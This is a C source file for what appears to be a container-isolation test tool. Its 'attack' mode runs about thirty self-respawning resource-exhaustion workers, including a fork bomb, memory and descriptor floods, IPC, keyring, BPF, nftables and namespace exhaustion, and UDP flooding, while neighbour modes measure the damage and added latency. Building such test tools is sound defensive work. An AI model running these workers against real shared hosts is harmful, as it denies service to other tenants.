// SPDX-License-Identifier: GPL-2.0
/*
 * attack: what a container's root does to the machine it shares, and what its neighbour
 * notices of it.
 *
 *	attack do WHAT [ADDRESS...]	in the attacker: take without end, with several processes,
 *		those that are killed come back.  Prints "on", ends when the file /stop is
 *		there and nothing is left of it, and prints how much it got and what it
 *		was told: "took 1234, ENOMEM 12, killed 3"
 *	attack one			in the neighbour: one of each; prints what it cannot have
 *	attack serve PORT		in the neighbour: a child for each request reads a file
 *	attack ask ADDRESS PORT MS	on the host: requests for so many milliseconds; prints
 *		"REQUESTS LOST MEDIAN P99 MAX", times in microseconds
 *
 * Whatever outlives a process, the attacks make in namespaces of their own, or unlink it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/if_packet.h>
#include <linux/keyctl.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nf_tables.h>
#include <linux/netfilter/nfnetlink.h>
#include <linux/netlink.h>
#include <mqueue.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/file.h>
#include <sys/fsuid.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MIB		(1ul << 20)
#define NO_ERRORS	200
/* the longest an attack goes on without /stop */
#define MAX_SECONDS	90

/* what all processes of an attack have in common */
static struct {
	atomic_long took;
	atomic_long error[NO_ERRORS];
} *sum;

static char **addresses;	/* to flood */
static char block[MIB];

/* one more, or not: returns @ok */
static bool got(bool ok)
{
	if (ok)
		atomic_fetch_add(&sum->took, 1);
	else if (errno > 0 && errno < NO_ERRORS)
		atomic_fetch_add(&sum->error[errno], 1);
	return ok;
}

static void raise_limits(void)
{
	static const int which[] = { RLIMIT_NOFILE, RLIMIT_NPROC, RLIMIT_SIGPENDING, RLIMIT_MEMLOCK,
				     RLIMIT_MSGQUEUE };

	for (size_t i = 0; i < sizeof(which) / sizeof(which[0]); i++) {
		struct rlimit r;

		if (getrlimit(which[i], &r) == 0) {
			r.rlim_cur = r.rlim_max;
			setrlimit(which[i], &r);
		}
	}
}

static void put_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) < 0)
		perror(path);
	close(fd);
}

/*
 * Is the table of descriptors full?  Then keep what is in it, and go on in a child with an
 * empty one.
 */
static bool next_table(void)
{
	pid_t pid;

	if (errno != EMFILE)
		return false;
	pid = fork();
	if (pid > 0) {
		for (;;)
			pause();
	}
	if (pid == 0)
		close_range(3, ~0U, 0);
	return pid == 0;
}

/* a mount or IPC namespace of its own, so that all is gone with the last process */
static void own(int flags)
{
	if (unshare(flags) < 0)
		got(false);
	if (flags & CLONE_NEWNS)
		mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
}

static void own_tmpfs(void)
{
	own(CLONE_NEWNS);
	if (mount("bomb", "/tmp", "tmpfs", 0, "size=100%,nr_inodes=0") < 0 || chdir("/tmp") < 0) {
		got(false);
		_exit(1);
	}
}

/* ---- attacks: one worker each, which does not return ---- */

static void spin(int n)
{
	for (;;)
		sum->took++;
}

static void forks(int n)
{
	for (;;)
		got(fork() >= 0);
}

static void pipes(int n)
{
	for (;;) {
		int fd[2];

		if (!got(pipe2(fd, O_NONBLOCK | O_CLOEXEC) == 0)) {
			next_table();
			continue;
		}
		fcntl(fd[1], F_SETPIPE_SZ, MIB);
		while (write(fd[1], block, sizeof(block)) > 0)
			;
	}
}

static void fill(int s)
{
	while (send(s, block, 65536, MSG_DONTWAIT | MSG_NOSIGNAL) > 0)
		;
}

/* connected, with as much under way as goes */
static void tcp_pair(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr = { htonl(INADDR_LOOPBACK) } };
	socklen_t len = sizeof(a);
	int l = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), c = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (l >= 0 && c >= 0 && bind(l, (struct sockaddr *)&a, len) == 0 && listen(l, 4) == 0 &&
	    getsockname(l, (struct sockaddr *)&a, &len) == 0 && connect(c, (struct sockaddr *)&a, len) == 0) {
		got(true);
		fill(c);
	} else if (!got(false) && !next_table()) {
		close(l);
		close(c);
	}
}

static void sockets(int n)
{
	for (;;) {
		int s[2];

		if (n % 2) {
			tcp_pair();
			continue;
		}
		if (!got(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, s) == 0)) {
			next_table();
			continue;
		}
		fill(s[0]);
		fill(s[1]);
	}
}

static void epolls(int n)
{
	int fd[500], have = 0;

	for (;;) {
		int e;

		while (have < 500 && (fd[have] = eventfd(0, EFD_CLOEXEC)) >= 0)
			have++;
		e = epoll_create1(EPOLL_CLOEXEC);
		if (!got(e >= 0) && next_table())
			have = 0;
		for (int i = 0; e >= 0 && i < have; i++) {
			struct epoll_event ev = { .events = EPOLLIN };

			got(epoll_ctl(e, EPOLL_CTL_ADD, fd[i], &ev) == 0);
		}
	}
}

/* one instance, of which any user has only so many, with all there is to watch */
static void watches(int n)
{
	int fd = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
	char name[40];

	own_tmpfs();
	for (long i = 0;; i++) {
		snprintf(name, sizeof(name), "d%ld", i);
		mkdir(name, 0700);
		got(inotify_add_watch(fd, name, IN_ALL_EVENTS) >= 0);
	}
}

static void inotifies(int n)
{
	for (;;) {
		if (!got(inotify_init1(IN_CLOEXEC | IN_NONBLOCK) >= 0))
			usleep(1000);
	}
}

/* files without a name; @dir is on the disk or a tmpfs */
static void nameless(const char *dir)
{
	for (long i = 0;; i++) {
		int fd = open(dir, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);

		if (!got(fd >= 0)) {
			next_table();
			continue;
		}
		for (int j = 0; j < 32; j++)
			got(write(fd, block, sizeof(block)) > 0);
	}
}

static void unlinked(int n)
{
	nameless("/");
}

static void tmpfs(int n)
{
	own_tmpfs();
	nameless(".");
}

static void anon(int n)
{
	for (;;) {
		char *p = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (got(p != MAP_FAILED))
			memset(p, 1, MIB);
	}
}

static void locked(int n)
{
	for (;;) {
		char *p = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		if (p == MAP_FAILED || !got(mlock(p, MIB) == 0))
			munmap(p, MIB);
	}
}

static void shm(int n)
{
	own(CLONE_NEWIPC);
	for (;;) {
		int id = shmget(IPC_PRIVATE, 4 * MIB, 0600);
		char *p = id < 0 ? (void *)-1 : shmat(id, NULL, 0);

		if (got(p != (void *)-1))
			memset(p, 1, 4 * MIB);
	}
}

static void queues(int n)
{
	struct mq_attr attr = { .mq_maxmsg = 10, .mq_msgsize = 8192 };
	struct {
		long type;
		char text[8000];
	} m = { .type = 1 };
	char name[40];

	own(CLONE_NEWIPC);
	for (long i = 0;; i++) {
		mqd_t q;
		int id;

		snprintf(name, sizeof(name), "/q%ld", i);
		q = mq_open(name, O_CREAT | O_RDWR | O_NONBLOCK, 0600, &attr);
		got(q >= 0);
		while (q >= 0 && mq_send(q, block, 8192, 0) == 0)
			;
		id = msgget(IPC_PRIVATE, 0600);
		got(id >= 0);
		while (id >= 0 && msgsnd(id, &m, sizeof(m.text), IPC_NOWAIT) == 0)
			;
		got(semget(IPC_PRIVATE, 250, 0600) >= 0);
	}
}

/* names that there are not, on the disk; and paths as deep as they get */
static void dentries(int n)
{
	static char name[220];
	struct stat st;

	memset(name, 'x', sizeof(name) - 1);
	if (n % 2)
		own_tmpfs();
	for (long i = 0;; i++) {
		snprintf(name, 40, "%d-%ld", getpid(), i);
		name[strlen(name)] = '-';
		if (n % 2 == 0)
			got(stat(name, &st) < 0 && errno == ENOENT);
		else
			got(mkdir(name, 0700) == 0 && chdir(name) == 0);
	}
}

/* a page table for each page of zeros */
static void tables(int n)
{
	for (;;) {
		volatile char *p = mmap(NULL, 1ul << 36, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

		if (!got(p != MAP_FAILED))
			continue;
		for (long i = 0; i < 1 << 15; i++) {
			(void)p[i << 21];
			got(true);
		}
	}
}

static long add_key(const char *name, size_t size, int ring)
{
	return syscall(SYS_add_key, "user", name, block, size, ring);
}

/* small and large ones, on as many rings as there may be */
static void keys(int n)
{
	char name[40];

	for (long i = 0;; i++) {
		snprintf(name, sizeof(name), "bomb%d-%ld", n, i);
		if (i % 100 == 0)
			syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
		got(add_key(name, i % 2 ? 10 : 2000, KEY_SPEC_SESSION_KEYRING) >= 0);
	}
}

/* the same, of all users that the container has: each has a quota of its own */
static void userkeys(int n)
{
	char name[40];

	for (unsigned int i = (unsigned int)n + 1;; i += 4) {
		setfsuid(i % 60000);
		snprintf(name, sizeof(name), "bomb%u", i);
		if (i % 1000 < 4)
			syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
		got(add_key(name, 16000, KEY_SPEC_PROCESS_KEYRING) >= 0);
	}
}

/* maps, which are not for containers, and filters of sockets, which are */
static void bpf(int n)
{
	static struct sock_filter code[BPF_MAXINSNS];
	struct sock_fprog prog = { .len = BPF_MAXINSNS, .filter = code };
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4096, .max_entries = 256,
	};

	for (int i = 0; i < BPF_MAXINSNS; i++)
		code[i] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0xffff);
	for (;;) {
		int s;

		if (!got(syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)) >= 0))
			next_table();
		s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (!got(s >= 0 && setsockopt(s, SOL_SOCKET, SO_ATTACH_FILTER, &prog, sizeof(prog)) == 0))
			next_table();
	}
}

/* ---- nftables: a set that grows ---- */

static char batch[65536] __attribute__((aligned(8)));
static size_t batch_len;

static void *put(size_t len)
{
	void *p = batch + batch_len;

	batch_len += NLMSG_ALIGN(len);
	if (batch_len > sizeof(batch))
		_exit(98);
	memset(p, 0, NLMSG_ALIGN(len));
	return p;
}

static struct nlmsghdr *nft_begin(int type, int flags)
{
	struct nlmsghdr *h = put(sizeof(*h));
	struct nfgenmsg *g = put(sizeof(*g));
	bool edge = type == NFNL_MSG_BATCH_BEGIN || type == NFNL_MSG_BATCH_END;

	h->nlmsg_type = (uint16_t)(edge ? type : NFNL_SUBSYS_NFTABLES << 8 | type);
	h->nlmsg_flags = (uint16_t)(NLM_F_REQUEST | flags);
	g->nfgen_family = edge ? AF_UNSPEC : NFPROTO_IPV4;
	g->version = NFNETLINK_V0;
	g->res_id = htons(edge ? NFNL_SUBSYS_NFTABLES : 0);
	return h;
}

static void nft_end(struct nlmsghdr *h)
{
	h->nlmsg_len = (uint32_t)(batch + batch_len - (char *)h);
}

static struct nlattr *attr(int type, const void *value, size_t len)
{
	struct nlattr *a = put(sizeof(*a) + len);

	a->nla_type = (uint16_t)type;
	a->nla_len = (uint16_t)(sizeof(*a) + len);
	if (len)
		memcpy(a + 1, value, len);
	return a;
}

static void nest_end(struct nlattr *a)
{
	a->nla_len = (uint16_t)(batch + batch_len - (char *)a);
}

/* send what is there, and take the first error */
static bool nft_send(int s)
{
	struct sockaddr_nl to = { .nl_family = AF_NETLINK };
	char reply[8192] __attribute__((aligned(8)));
	int err = ENOMSG;
	ssize_t r;

	nft_end(nft_begin(NFNL_MSG_BATCH_END, 0));
	if (sendto(s, batch, batch_len, 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		return false;
	while ((r = recv(s, reply, sizeof(reply), MSG_DONTWAIT)) > 0) {
		const struct nlmsghdr *h = (void *)reply;

		if (h->nlmsg_type == NLMSG_ERROR && (err == ENOMSG || err == 0))
			err = -((const struct nlmsgerr *)NLMSG_DATA(h))->error;
	}
	errno = err;
	return err == 0;
}

static void nft(int n)
{
	int s, size = MIB;
	struct nlmsghdr *h;
	uint32_t key = htonl(4), id = htonl(1);

	own(CLONE_NEWNET);
	s = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_NETFILTER);
	setsockopt(s, SOL_SOCKET, SO_SNDBUF, &size, sizeof(size));
	batch_len = 0;
	nft_end(nft_begin(NFNL_MSG_BATCH_BEGIN, 0));
	h = nft_begin(NFT_MSG_NEWTABLE, NLM_F_CREATE);
	attr(NFTA_TABLE_NAME, "t", 2);
	nft_end(h);
	h = nft_begin(NFT_MSG_NEWSET, NLM_F_CREATE | NLM_F_ACK);
	attr(NFTA_SET_TABLE, "t", 2);
	attr(NFTA_SET_NAME, "s", 2);
	attr(NFTA_SET_KEY_LEN, &key, 4);
	attr(NFTA_SET_ID, &id, 4);
	nft_end(h);
	got(nft_send(s));
	for (uint32_t next = 0;;) {
		struct nlattr *list, *elem, *k;

		batch_len = 0;
		nft_end(nft_begin(NFNL_MSG_BATCH_BEGIN, 0));
		h = nft_begin(NFT_MSG_NEWSETELEM, NLM_F_CREATE | NLM_F_ACK);
		attr(NFTA_SET_ELEM_LIST_TABLE, "t", 2);
		attr(NFTA_SET_ELEM_LIST_SET, "s", 2);
		list = attr(NFTA_SET_ELEM_LIST_ELEMENTS | NLA_F_NESTED, NULL, 0);
		for (int i = 0; i < 1000; i++, next++) {
			elem = attr(NFTA_LIST_ELEM | NLA_F_NESTED, NULL, 0);
			k = attr(NFTA_SET_ELEM_KEY | NLA_F_NESTED, NULL, 0);
			attr(NFTA_DATA_VALUE, &next, 4);
			nest_end(k);
			nest_end(elem);
		}
		nest_end(list);
		nft_end(h);
		got(nft_send(s));
	}
}

/* ---- namespaces ---- */

static void spaces(int flags)
{
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		pid_t pid = fork();

		if (pid == 0) {
			got(unshare(flags) == 0);
			for (;;)
				pause();
		}
		if (pid < 0)
			got(false);
	}
}

static void netns(int n)
{
	spaces(CLONE_NEWNET);
}

static void userns(int n)
{
	spaces(CLONE_NEWUSER);
}

static void mounts(int n)
{
	char name[40];

	own_tmpfs();
	for (long i = 0;; i++) {
		snprintf(name, sizeof(name), "m%ld", i);
		mkdir(name, 0700);
		got(mount("bomb", name, "tmpfs", 0, NULL) == 0);
	}
}

static void many_ptys(bool write_to)
{
	for (;;) {
		int fd = open("/dev/ptmx", O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);

		if (!got(fd >= 0)) {
			if (!next_table())
				usleep(1000);
			continue;
		}
		/* a line without an end is never full */
		for (int i = 0; write_to && i < 100 && write(fd, block, 4096) > 0; i++)
			;
	}
}

static void ptys(int n)
{
	many_ptys(false);
}

static void ptylines(int n)
{
	many_ptys(true);
}

static void locks(int n)
{
	int fd = open("/", O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);

	for (off_t i = 0;; i++) {
		struct flock l = { .l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = i * 10, .l_len = 5 };

		got(fcntl(fd, F_SETLK, &l) == 0);
	}
}

static void signals(int n)
{
	sigset_t set;

	sigemptyset(&set);
	sigaddset(&set, SIGRTMIN);
	sigprocmask(SIG_BLOCK, &set, NULL);
	for (;;)
		got(sigqueue(getpid(), SIGRTMIN, (union sigval){ .sival_int = 1 }) == 0);
}

/* requests that are never submitted: the machine has a number of them */
static void aio(int n)
{
	for (long size = 1000;;) {
		aio_context_t ctx = 0;

		if (!got(syscall(SYS_io_setup, size, &ctx) == 0) && size > 1)
			size /= 2;
	}
}

/* small packets to the discard port, of itself or one of the addresses */
static void flood(int n)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), addr = 0;

	while (addresses[addr])
		addr++;
	inet_pton(AF_INET, addr && n % 2 ? addresses[n / 2 % addr] : "127.0.0.1", &to.sin_addr);
	for (;;)
		got(sendto(s, block, 20, 0, (struct sockaddr *)&to, sizeof(to)) > 0);
}

/* rings that a packet socket shares with its process */
static void rings(int n)
{
	struct tpacket_req req = {
		.tp_block_size = 1 << 16, .tp_block_nr = 64, .tp_frame_size = 1 << 12, .tp_frame_nr = 1024,
	};

	for (;;) {
		int s = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

		if (!got(s >= 0 && setsockopt(s, SOL_PACKET, PACKET_RX_RING, &req, sizeof(req)) == 0))
			next_table();
	}
}

/* what nobody needs any more goes with the container */
static void cgroups(int n)
{
	char name[80];

	for (long i = 0;; i++) {
		snprintf(name, sizeof(name), "/sys/fs/cgroup/bomb%d-%ld", n, i);
		got(mkdir(name, 0755) == 0);
	}
}

static void clean_cgroups(void)
{
	char name[80];

	for (int n = 0; n < 2; n++) {
		for (long i = 0, miss = 0; miss < 100; i++) {
			snprintf(name, sizeof(name), "/sys/fs/cgroup/bomb%d-%ld", n, i);
			if (rmdir(name) < 0)
				miss++;
		}
	}
}

static const struct attack {
	const char *name;
	int workers;
	void (*run)(int n);
	void (*clean)(void);
} attacks[] = {
	{ "spin", 4, spin },
	{ "forks", 4, forks },
	{ "pipes", 4, pipes },
	{ "sockets", 4, sockets },
	{ "epolls", 4, epolls },
	{ "watches", 4, watches },
	{ "inotify", 2, inotifies },
	{ "unlinked", 4, unlinked },
	{ "tmpfs", 4, tmpfs },
	{ "anon", 4, anon },
	{ "mlock", 4, locked },
	{ "shm", 4, shm },
	{ "queues", 4, queues },
	{ "dentries", 4, dentries },
	{ "tables", 4, tables },
	{ "keys", 4, keys },
	{ "userkeys", 4, userkeys },
	{ "bpf", 4, bpf },
	{ "nft", 2, nft },
	{ "netns", 2, netns },
	{ "userns", 4, userns },
	{ "mounts", 2, mounts },
	{ "ptys", 2, ptys },
	{ "ptylines", 2, ptylines },
	{ "locks", 4, locks },
	{ "signals", 4, signals },
	{ "aio", 2, aio },
	{ "flood", 6, flood },
	{ "rings", 2, rings },
	{ "cgroups", 2, cgroups, clean_cgroups },
};

#define MAX_WORKERS	8

/* the group that all workers and their children are in; they go first when memory is short */
static pid_t begin(const struct attack *a, int n, pid_t group)
{
	pid_t pid = fork();

	if (pid == 0) {
		setpgid(0, group);
		put_file("/proc/self/oom_score_adj", "1000");
		a->run(n);
		_exit(0);
	}
	if (pid > 0)
		setpgid(pid, group);
	return pid;
}

static int attack(const struct attack *a)
{
	pid_t leader, pids[MAX_WORKERS];
	long killed = 0;
	int status;

	memset(block, 'x', sizeof(block));
	sum = mmap(NULL, sizeof(*sum), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	prctl(PR_SET_CHILD_SUBREAPER, 1);
	/* a group stays as long as its leader does, who does nothing */
	leader = fork();
	if (leader == 0) {
		setpgid(0, 0);
		for (;;)
			pause();
	}
	if (sum == MAP_FAILED || leader < 0) {
		perror("attack");
		return 1;
	}
	setpgid(leader, leader);
	for (int i = 0; i < a->workers; i++)
		pids[i] = begin(a, i, leader);
	puts("on");
	fflush(stdout);
	for (int ticks = 0; access("/stop", F_OK) < 0 && ticks < MAX_SECONDS * 50; ticks++) {
		pid_t pid;

		while ((pid = waitpid(-1, &status, WNOHANG)) > 0) {
			if (WIFSIGNALED(status))
				killed++;
			if (pid == leader)
				goto out;
			for (int i = 0; i < a->workers; i++) {
				if (pids[i] == pid)
					pids[i] = begin(a, i, leader);
			}
		}
		usleep(20000);
	}
out:
	/* whoever has forked meanwhile has the signal, too */
	do {
		kill(-leader, SIGKILL);
	} while (waitpid(-1, &status, 0) > 0);
	if (a->clean)
		a->clean();
	printf("took %ld", atomic_load(&sum->took));
	for (int i = 1; i < NO_ERRORS; i++) {
		if (atomic_load(&sum->error[i]))
			printf(", %s %ld", strerrorname_np(i), atomic_load(&sum->error[i]));
	}
	if (killed)
		printf(", killed %ld", killed);
	puts("");
	return 0;
}

/* ---- the neighbour ---- */

static int bad;

static void need(const char *what, bool ok)
{
	if (!ok)
		printf("%s: %s\n", what, strerrorname_np(errno));
	if (!ok)
		bad = 1;
}

/* in a child, so that nothing is left of it */
static void need_child(const char *what, int flags)
{
	int status = 0;
	pid_t pid = fork();

	if (pid == 0)
		_exit(unshare(flags) < 0 ? errno : 0);
	if (pid > 0)
		waitpid(pid, &status, 0);
	errno = pid < 0 ? errno : WEXITSTATUS(status);
	need(what, pid > 0 && status == 0);
}

static int one(void)
{
	struct mq_attr attr_mq = { .mq_maxmsg = 2, .mq_msgsize = 128 };
	struct epoll_event ev = { .events = EPOLLIN };
	struct flock lock = { .l_type = F_WRLCK, .l_len = 1 };
	aio_context_t ctx = 0;
	int fd[2] = { -1, -1 }, id, ep, in;
	sigset_t set;
	mqd_t q;
	char *p;

	need_child("fork", 0);
	need("pipe", pipe(fd) == 0);
	need("socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, fd) == 0);
	need("TCP socket", socket(AF_INET, SOCK_STREAM, 0) >= 0);
	ep = epoll_create1(0);
	need("epoll", ep >= 0 && epoll_ctl(ep, EPOLL_CTL_ADD, fd[0], &ev) == 0);
	in = inotify_init1(0);
	need("inotify", in >= 0 && inotify_add_watch(in, "/", IN_CREATE) >= 0);
	id = open("/", O_TMPFILE | O_RDWR, 0600);
	need("file", id >= 0 && write(id, block, 4096) == 4096);
	need("lock", fcntl(id, F_SETLK, &lock) == 0);
	id = memfd_create("one", 0);
	need("tmpfs", id >= 0 && write(id, block, 4096) == 4096);
	p = mmap(NULL, MIB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	need("memory", p != MAP_FAILED);
	if (p != MAP_FAILED)
		memset(p, 1, MIB);
	need("mlock", mlock(block, 4096) == 0);
	id = shmget(IPC_PRIVATE, 4096, 0600);
	need("shm", id >= 0);
	shmctl(id, IPC_RMID, NULL);
	id = msgget(IPC_PRIVATE, 0600);
	need("message queue", id >= 0);
	msgctl(id, IPC_RMID, NULL);
	id = semget(IPC_PRIVATE, 1, 0600);
	need("semaphore", id >= 0);
	semctl(id, 0, IPC_RMID);
	q = mq_open("/one", O_CREAT | O_RDWR, 0600, &attr_mq);
	need("POSIX queue", q >= 0);
	mq_unlink("/one");
	need("pty", posix_openpt(O_RDWR | O_NOCTTY) >= 0);
	sigemptyset(&set);
	sigaddset(&set, SIGRTMIN);
	sigprocmask(SIG_BLOCK, &set, NULL);
	need("signal", sigqueue(getpid(), SIGRTMIN, (union sigval){ .sival_int = 1 }) == 0);
	need("key", add_key("one", 10, KEY_SPEC_PROCESS_KEYRING) >= 0);
	need("AIO", syscall(SYS_io_setup, 16, &ctx) == 0);
	need_child("user namespace", CLONE_NEWUSER);
	need_child("mount namespace", CLONE_NEWNS);
	return bad;
}

static int answer(int c)
{
	char text[200];
	ssize_t n = read(c, text, sizeof(text));
	int fd = open("/etc/passwd", O_RDONLY | O_CLOEXEC);

	if (n <= 0 || fd < 0)
		return 1;
	n = read(fd, text, sizeof(text));
	return n <= 0 || write(c, text, (size_t)n) != n;
}

static int serve(const char *port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one_ = 1;

	signal(SIGCHLD, SIG_IGN);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one_, sizeof(one_));
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 100) < 0) {
		perror("serve");
		return 1;
	}
	puts("serving");
	fflush(stdout);
	for (;;) {
		int c = accept(s, NULL, NULL);
		pid_t pid;

		if (c < 0)
			continue;
		pid = fork();
		if (pid == 0)
			_exit(answer(c));
		close(c);
	}
}

static long now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

/* microseconds, or -1 when it is lost */
static long request(const struct sockaddr_in *a)
{
	struct timeval tv = { .tv_sec = 5 };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	long t0 = now_us(), r = -1;
	char text[200];

	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	if (connect(s, (const struct sockaddr *)a, sizeof(*a)) == 0 && write(s, "get\n", 4) == 4 &&
	    read(s, text, sizeof(text)) > 0)
		r = now_us() - t0;
	close(s);
	return r;
}

static int by_size(const void *a, const void *b)
{
	long x = *(const long *)a, y = *(const long *)b;

	return x < y ? -1 : x > y;
}

static int ask(const char *address, const char *port, long ms)
{
	enum { MAX = 100000 };
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	static long t[MAX];
	long end = now_us() + ms * 1000, lost = 0;
	int n = 0;

	inet_pton(AF_INET, address, &a.sin_addr);
	while (n < MAX && now_us() < end) {
		long us = request(&a);

		if (us < 0)
			lost++;
		else
			t[n++] = us;
		usleep(2000);
	}
	if (!n) {
		printf("0 %ld 0 0 0\n", lost);
		return 1;
	}
	qsort(t, (size_t)n, sizeof(t[0]), by_size);
	printf("%d %ld %ld %ld %ld\n", n, lost, t[n / 2], t[(99 * n + 99) / 100 - 1], t[n - 1]);
	return lost > 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	raise_limits();
	if (!strcmp(what, "do") && argc > 2) {
		addresses = argv + 3;
		for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
			if (!strcmp(argv[2], attacks[i].name))
				return attack(&attacks[i]);
		}
	}
	if (!strcmp(what, "one"))
		return one();
	if (!strcmp(what, "serve") && argc == 3)
		return serve(argv[2]);
	if (!strcmp(what, "ask") && argc == 5)
		return ask(argv[2], argv[3], atol(argv[4]));
	fprintf(stderr, "usage: attack do WHAT [ADDRESS...] | one | serve PORT | ask ADDRESS PORT MS\n");
	return 2;
}
